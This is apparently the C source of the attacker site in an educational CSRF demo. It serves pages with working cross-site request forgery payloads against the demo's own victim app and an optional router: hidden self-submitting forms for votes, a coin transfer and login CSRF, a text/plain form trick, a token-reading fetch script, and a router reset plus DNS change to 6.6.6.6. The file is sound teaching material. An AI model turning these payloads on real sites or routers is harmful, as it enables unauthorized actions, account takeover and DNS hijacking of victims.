/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * attacker.c - the attacker site of csrf-demo: another origin on the same
 * host (same site, other port, which SameSite cookies do not separate).
 * Each page tries one classic CSRF attack on the victim and says so in one
 * line: an <img> GET vote, a self-submitting POST vote, a self-submitting
 * transfer to mallory, a text/plain form, login CSRF, and a fetch that tries
 * to read the victim's token; and, when the demo runs a router (--router),
 * an <img> and a self-submitting form against its CGI admin pages. The
 * site only serves pages; it keeps no state.
 */
#include <string.h>

#include "demo.h"

typedef struct {
	const char *path;
	const char *title;
	const char *what; /* the one line that says what the page tries */
	/* The page's attack markup, printed after the line. "%V" in it stands
	 * for the victim's origin, "%R" for the router's (escaped for an
	 * attribute). */
	const char *markup;
} attack;

static const attack attacks[] = {
    {"/img-vote", "Free kittens",
     "This page tries to vote story 1 up with an <img> whose src is GET /vote on the victim.",
     "<p>Look at this kitten:</p><img id=\"kitten\" alt=\"a kitten\" width=\"1\" height=\"1\" "
     "src=\"%V/vote?type=y&amp;story=1\">"},
    {"/form-vote", "You won a prize",
     "This page tries to vote story 2 up with a hidden form that POSTs /vote by itself.",
     "<form id=\"attack\" method=\"post\" action=\"%V/vote\"><input type=\"hidden\" name=\"story\" value=\"2\">"
     "<input type=\"hidden\" name=\"type\" value=\"y\"></form><script>document.getElementById('attack').submit()"
     "</script>"},
    {"/transfer", "Claim your refund",
     "This page tries to move 100 coins to mallory with a hidden form that POSTs /transfer by itself.",
     "<form id=\"attack\" method=\"post\" action=\"%V/transfer\"><input type=\"hidden\" name=\"to\" "
     "value=\"mallory\"><input type=\"hidden\" name=\"amount\" value=\"100\"></form>"
     "<script>document.getElementById('attack').submit()</script>"},
    {"/text-plain", "Survey",
     "This page tries to vote story 3 down with a text/plain form whose body only looks like a urlencoded one.",
     "<form id=\"attack\" method=\"post\" enctype=\"text/plain\" action=\"%V/vote\"><input type=\"hidden\" "
     "name=\"story=3&amp;type=n&amp;pad\" value=\"\"></form><script>document.getElementById('attack').submit()"
     "</script>"},
    {"/login-csrf", "Sign in with your friends",
     "This page tries to log your browser into mallory's account (login CSRF) with a hidden form that POSTs /login.",
     "<form id=\"attack\" method=\"post\" action=\"%V/login\"><input type=\"hidden\" name=\"user\" value=\"mallory\">"
     "<input type=\"hidden\" name=\"password\" value=\"mallory-pw\"></form>"
     "<script>document.getElementById('attack').submit()</script>"},
    {"/fetch-token", "Token thief",
     "This page tries to read the victim's CSRF token with fetch, then POSTs a down vote for story 1 with it.",
     "<p id=\"read\">reading the victim's page...</p><p id=\"sent\"></p><script src=\"/fetch-token.js\"></script>"},
    {"/router", "Test your connection speed",
     "This page tries to reset your router with an <img> whose src is its GET reset page, then to set its DNS "
     "servers to mallory's with a hidden form that POSTs itself.",
     "<p>Measuring...</p><img id=\"probe\" alt=\"\" width=\"1\" height=\"1\" src=\"%R/cgi-bin/reset.cgi\">"
     "<form id=\"attack\" method=\"post\" action=\"%R/cgi-bin/dns.cgi\"><input type=\"hidden\" name=\"dns1\" "
     "value=\"6.6.6.6\"><input type=\"hidden\" name=\"dns2\" value=\"6.6.4.4\"></form><script>"
     "var probe = document.getElementById('probe'), go = function () { document.getElementById('attack').submit() };"
     "if (probe.complete) go(); else probe.onload = probe.onerror = go;</script>"},
};

static const char fetch_js[] =
    "(async function () {\n"
    "  const victim = document.body.dataset.victim;\n"
    "  const read = document.getElementById('read'), sent = document.getElementById('sent');\n"
    "  let field = null, token = null;\n"
    "  try {\n"
    "    const r = await fetch(victim + '/', { credentials: 'include' });\n"
    "    const doc = new DOMParser().parseFromString(await r.text(), 'text/html');\n"
    "    const p = doc.querySelector('meta[name=csrf-param]'), t = doc.querySelector('meta[name=csrf-token]');\n"
    "    if (p && t) { field = p.content; token = t.content; }\n"
    "    read.textContent = token ? 'Read a token from the victim page.' : 'Read the victim page, but no token.';\n"
    "  } catch (e) {\n"
    "    read.textContent = 'Could not read the victim page (the same-origin policy): ' + e.name;\n"
    "  }\n"
    "  let body = 'story=1&type=n';\n"
    "  if (token) body += '&' + encodeURIComponent(field) + '=' + encodeURIComponent(token);\n"
    "  try {\n"
    "    await fetch(victim + '/vote', { method: 'POST', mode: 'no-cors', credentials: 'include',\n"
    "      headers: { 'Content-Type': 'application/x-www-form-urlencoded' }, body });\n"
    "    sent.textContent = 'Sent the vote anyway; its answer is opaque to this page.';\n"
    "  } catch (e) {\n"
    "    sent.textContent = 'Sending the vote failed: ' + e.name;\n"
    "  }\n"
    "  document.body.dataset.done = '1';\n"
    "})();\n";

/* A page against the router is only offered when the demo runs one. */
static int offered(demo_app *app, const attack *a)
{
	return app->router_origin[0] || strstr(a->markup, "%R") == NULL;
}

static void head(page *b, demo_app *app, const char *title)
{
	page_head(b, title, "attacker");
	page_add(b, "<style>body{font-family:Georgia,serif;max-width:46rem;margin:1rem auto;"
	            "padding:0 1rem;background:#fff8e8;color:#331}h1{color:#a30}.what{background:#ffe;border:1px "
	            "dashed #a30;padding:.4rem}</style></head>\n<body data-victim=\"");
	page_attr(b, app->victim_origin, strlen(app->victim_origin));
	page_add(b, "\">");
}

static void markup(page *b, demo_app *app, const char *m)
{
	for (const char *p = m; *p;) {
		const char *q = strchr(p, '%');
		while (q != NULL && q[1] != 'V' && q[1] != 'R')
			q = strchr(q + 1, '%');
		if (q == NULL) {
			page_add(b, p);
			break;
		}
		const char *origin = q[1] == 'V' ? app->victim_origin : app->router_origin;
		page_addn(b, p, (size_t)(q - p));
		page_attr(b, origin, strlen(origin));
		p = q + 2;
	}
}

static enum MHD_Result index_page(demo_app *app, struct MHD_Connection *c)
{
	page b;
	page_init(&b);
	head(&b, app, "Mallory's fun page");
	page_add(&b, "<h1>Mallory's fun page</h1><p>Another origin than the victim, on the same site. Log in to the "
	             "victim at <a href=\"");
	page_attr(&b, app->victim_origin, strlen(app->victim_origin));
	page_add(&b, "/\">");
	page_text(&b, app->victim_origin, strlen(app->victim_origin));
	page_add(&b,
	         "/</a> as alice, then open one of these pages and look at the victim again.</p><ul id=\"attacks\">");
	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++) {
		if (!offered(app, &attacks[i]))
			continue;
		page_add(&b, "<li><a href=\"");
		page_attr(&b, attacks[i].path, strlen(attacks[i].path));
		page_add(&b, "\">");
		page_text(&b, attacks[i].title, strlen(attacks[i].title));
		page_add(&b, "</a>: ");
		page_text(&b, attacks[i].what, strlen(attacks[i].what));
		page_add(&b, "</li>");
	}
	page_add(&b, "</ul></body></html>\n");
	return demo_respond(c, NULL, NULL, 200, "text/html; charset=utf-8", &b, NULL);
}

static enum MHD_Result attack_page(demo_app *app, struct MHD_Connection *c, const attack *a)
{
	page b;
	page_init(&b);
	head(&b, app, a->title);
	page_add(&b, "<h1>");
	page_text(&b, a->title, strlen(a->title));
	page_add(&b, "</h1><p class=\"what\" id=\"what\">");
	page_text(&b, a->what, strlen(a->what));
	page_add(&b, "</p>");
	markup(&b, app, a->markup);
	page_add(&b, "<p><a href=\"/\">more fun</a></p></body></html>\n");
	return demo_respond(c, NULL, NULL, 200, "text/html; charset=utf-8", &b, NULL);
}

static enum MHD_Result simple(struct MHD_Connection *c, unsigned status, const char *ctype, const char *text)
{
	page b;
	page_init(&b);
	page_add(&b, text);
	return demo_respond(c, NULL, NULL, status, ctype, &b, NULL);
}

enum MHD_Result attacker_handle(demo_app *app, struct MHD_Connection *c, const char *url, const char *method)
{
	if (strcmp(method, "GET") != 0 && strcmp(method, "HEAD") != 0)
		return simple(c, 405, "text/plain; charset=utf-8", "method not allowed\n");
	if (strcmp(url, "/") == 0)
		return index_page(app, c);
	if (strcmp(url, "/fetch-token.js") == 0)
		return simple(c, 200, "text/javascript; charset=utf-8", fetch_js);
	for (size_t i = 0; i < sizeof attacks / sizeof attacks[0]; i++)
		if (strcmp(url, attacks[i].path) == 0 && offered(app, &attacks[i]))
			return attack_page(app, c, &attacks[i]);
	return simple(c, 404, "text/plain; charset=utf-8", "not found\n");
}
